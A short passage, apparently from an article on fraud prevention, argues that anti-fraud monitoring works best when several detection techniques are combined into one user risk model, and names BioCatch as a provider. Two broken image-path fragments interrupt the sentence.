In our opinion the recipe to a successful anti fraud monitoring lies into having a flexible and modular approach: mixingdifferent detection techniques to build an unified risk model ofthe users.
[3]: A provider for this kind of solution is BioCatch.